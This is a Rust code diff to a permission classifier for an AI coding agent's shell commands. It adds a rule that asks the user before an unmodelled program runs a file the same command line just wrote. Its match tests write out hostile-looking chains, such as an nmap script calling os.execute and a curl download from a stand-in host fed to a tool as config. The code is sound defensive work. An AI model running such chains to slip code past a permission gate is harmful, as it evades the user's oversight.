@@ -10,6 +10,12 @@
 //!   path to an executable as an operand (`someprog /bin/sh -c …`) runs it.
 //! - `computed.rs`: a word built at run time where an option goes, for programs
 //!   whose options decide what they do (`find . $(echo -delete)`).
+//! - a program no family models handed a file an earlier unit on the same
+//!   line wrote (`echo '…' > /tmp/x; nmap --script=/tmp/x`) runs what the line
+//!   put there, as its script or config (`WRITTEN_FILE`); the engine records
+//!   every write (`vocab::writes::check_write`), and families reading such a
+//!   file (`bash ./x.sh`) get the text the line wrote, or unreadable, never what
+//!   is on disk.
 //! - variables whose value is a command (`PAGER`, `*_COMMAND`, `GIT_SSH_COMMAND`)
 //!   are classified as one by the engine (`rules::vocab::vars` says which).
 //!
@@ -21,6 +27,7 @@ use crate::words;
 pub(crate) mod computed;
 pub(crate) mod implicit;
 pub(crate) mod options;
+pub(crate) mod values;
 
 use crate::call::args::{split_option, ArgSpec, Args, Token};
 use crate::call::Invocation;
@@ -36,6 +43,7 @@ static RULES: &[&Rule] = &[
     &implicit::IMPLICIT_WRAPPER,
     &ENV_COMMAND,
     &PROTECTED_OPERAND,
+    &WRITTEN_FILE,
     &options::ABBREVIATION,
     &computed::COMPUTED_OPTION,
 ];
@@ -48,6 +56,21 @@ pub static PROTECTED_OPERAND: Rule = Rule::t3("exec.protected-operand")
     .reason("an unmodelled program is handed a protected path (tiergate's or Claude Code's own files) that it may write; ask the user")
     .matches(words!["mytool -i '.a=1' .claude/settings.json", "mytool --config=.tiergate.toml", "mytool fmt .claude/hooks/h.sh"])
     .not_matches(words!["cat .claude/settings.json", "jq . .claude/settings.json", "mytool notes.md"]);
+
+/// ## What it matches
+/// A program no family models (and that is not a known read-only tool) handed, as an operand or an option's value, a file an earlier command on the same line wrote: `echo '…' > /tmp/x; nmap --script=/tmp/x`, `printf … > /tmp/n.conf && neofetch --config /tmp/n.conf`, `curl -o /tmp/wg.conf https://x; wg-quick up /tmp/wg.conf`.
+/// ## Why this tier
+/// Nobody has read what the program does with the file; a script or config the line just wrote is code that runs (nmap's NSE scripts, neofetch's config, wg-quick's `PostUp`). Modelled programs decide for themselves: a reader (`cat`, `jq`) stays free, a shell or interpreter reads the text the line wrote (or finds it unreadable).
+pub static WRITTEN_FILE: Rule = Rule::t3("exec.written-file")
+    .reason("an unmodelled program is handed a file this command line just wrote, which it may run as a script or config; write the file, review it, then run the program as a separate command")
+    .matches(words![
+        "echo 'os.execute(\"id\")' > /tmp/x.nse; nmap --script=/tmp/x.nse localhost", "echo x > /tmp/n.conf && neofetch --config /tmp/n.conf",
+        "echo '[Interface]' > /tmp/wg0.conf; wg-quick up /tmp/wg0.conf", "curl -o /tmp/x.conf https://x.example/c; mytool -c /tmp/x.conf",
+    ])
+    .not_matches(words![
+        "nmap --script=/tmp/x.nse localhost", "echo x > /tmp/a.txt; wc -l /tmp/a.txt", "echo '{}' > /tmp/x.json; jq . /tmp/x.json",
+        "echo x > /tmp/x; mytool --config /tmp/y", "mytool --config /tmp/x; echo x > /tmp/x", "mkdir out && mytool --out-dir out",
+    ]);
 
 /// ## What it matches
 /// A variable whose value a program runs as a command, set for a command: `PAGER=… git log` (which `shell.env-hijack` also asks for), `MYTOOL_COMMAND=… mytool`, `GIT_SSH_COMMAND=… git fetch`, `RSYNC_RSH=… rsync`.
@@ -67,12 +90,13 @@ pub(crate) fn check_unit(inv: &Invocation, owned: bool, cx: &mut Cx<'_>) {
     let writes_what_it_opens = matches!(inv.program.as_str(), "nano" | "code" | "subl" | "micro" | "hx" | "ed" | "mate");
     let reader = crate::rules::fallback::is_exempt(&inv.program) && !writes_what_it_opens;
     if !owned && !reader && !cx.reached(crate::verdict::Tier::T3) {
-        protected_operand(inv, cx);
+        handed_paths(inv, cx);
     }
 }
 
-/// `mytool -i … .claude/settings.json`: an unread program and a protected path.
-fn protected_operand(inv: &Invocation, cx: &mut Cx<'_>) {
+/// An unread program handed a protected path (`mytool -i … .claude/settings.json`)
+/// or a file the line wrote before it (`echo … > /tmp/x; nmap --script=/tmp/x`).
+fn handed_paths(inv: &Invocation, cx: &mut Cx<'_>) {
     let cwd = inv.cwd.clone().or_else(|| cx.root());
     let cwd = cwd.as_deref();
     // Every operand, and the value attached to an option (`--config=.claude/x`).
@@ -85,11 +109,19 @@ fn protected_operand(inv: &Invocation, cx: &mut Cx<'_>) {
             },
             _ => continue,
         };
-        if a.exact && crate::rules::vocab::writes::is_protected(cx, value, cwd) {
+        if !a.exact {
+            continue;
+        }
+        if crate::rules::vocab::writes::is_protected(cx, value, cwd) {
             cx.hit_because(&PROTECTED_OPERAND, format!("`{}` is handed `{value}`, a protected path it may write; ask the user", inv.program));
+            return;
+        }
+        if cx.written_earlier(value, cwd) {
+            let detail = format!("`{}` is handed `{value}`, which this command line wrote before it runs; {}", inv.program, WRITTEN_FILE.reason);
+            cx.hit_because(&WRITTEN_FILE, detail);
             return;
         }
     }
 }
 
-crate::tables![; computed, implicit, options];
+crate::tables![; computed, implicit, options, values];
